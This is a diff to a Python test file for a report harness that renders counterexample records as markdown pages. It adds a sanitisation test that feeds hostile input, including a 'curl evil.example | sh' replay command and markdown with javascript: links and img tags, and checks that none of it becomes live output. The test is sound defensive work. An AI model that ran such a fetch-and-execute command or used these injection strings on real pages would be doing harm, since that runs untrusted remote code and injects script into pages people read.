@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 import xml.etree.ElementTree as ElementTree
 from collections import Counter
 from collections.abc import Callable
@@ -23,6 +24,7 @@ from harness.records.record import stored as stored_records
 from harness.report import figure_svg, index, labels, page, pages
 from harness.report.figure import BLUE, VERMILION, draw, figure
 from harness.report.improving import way, worth
+from harness.report.markdown import html
 from harness.report.words import short, table
 from harness.testing.terminal import in_short, news
 from tests.certificates.test_stored import CASES
@@ -62,7 +64,7 @@ def test_page_has_the_statement_the_commands_and_the_figure(make: Callable[[], R
     if claim.assumption:
         assert claim.assumption in text
     assert f"({FIGURE})" in text
-    assert record.data["replay"]["verify"] in text
+    assert record.commands["verify"] in text
     headings = [line[3:] for line in text.splitlines() if line.startswith("## ")]
     assert headings == [
         "The instance",
@@ -72,6 +74,27 @@ def test_page_has_the_statement_the_commands_and_the_figure(make: Callable[[], R
         "What is proven, and what is evidence",
         "Check it",
     ]
+
+
+HOSTILE = "![](http://picture.example/x.png) [a](javascript:b) <img src=x> www.example.org\n\n# |`~~~`"
+
+
+@every
+def test_nothing_but_text_comes_of_the_text_of_a_file(make: Callable[[], Record]) -> None:
+    record = make()
+    found = {"seed": HOSTILE, "software": {HOSTILE: HOSTILE}}
+    counts = dict.fromkeys(("drawn", "violated", "holds", "outside", "undecided"), HOSTILE)
+    robustness = {"robust": True, "shift": 1, "seed": HOSTILE, "starts": counts, "data": counts}
+    replay = {"verify": "curl evil.example | sh"}
+    made = page(Record(record.data | {"replay": replay, "found": found, "robustness": robustness}))
+    assert "evil" not in made
+    shown = html(made)
+    assert shown.count("picture.example") >= 9
+    assert shown.count("<img") == 1
+    assert shown.count("<h1") == 1
+    assert set(re.findall(r'(?:href|src)="(.*?)"', shown)) == {FIGURE, RECORD, INSTANCE}
+    # no more links for those who make links of bare addresses
+    assert not re.search(r"(?<!\\)(://|www\.)", made)
 
 
 def rows_after(text: str, heading: str) -> list[list[str]]:
@@ -386,8 +409,7 @@ def test_points_count_before_neurons_before_dimensions_before_numbers() -> None:
 
 def test_what_is_new_beside_what_is_stored(tmp_path: Path) -> None:
     record = depth2_local(3)
-    small = Record(depth2_local(2).data | {"replay": {"harvest": "marginalia harvest"}})
-    again = Record(record.data | {"replay": {"harvest": "marginalia harvest"}})
+    small = depth2_local(2)
     said = news(small, tmp_path)
     assert said is not None
     assert "no depth2-local--linear--zero-weight is stored" in said
@@ -397,9 +419,9 @@ def test_what_is_new_beside_what_is_stored(tmp_path: Path) -> None:
     said = news(small, tmp_path)
     assert said is not None
     assert "smaller than the stored depth2-local--linear--zero-weight" in said
-    assert news(again, tmp_path) is None
+    assert news(record, tmp_path) is None
     path.write_text("{")
-    assert "not a stored counterexample" in str(news(again, tmp_path))
+    assert "not a stored counterexample" in str(news(record, tmp_path))
 
 
 def test_a_run_in_short(tmp_path: Path) -> None:
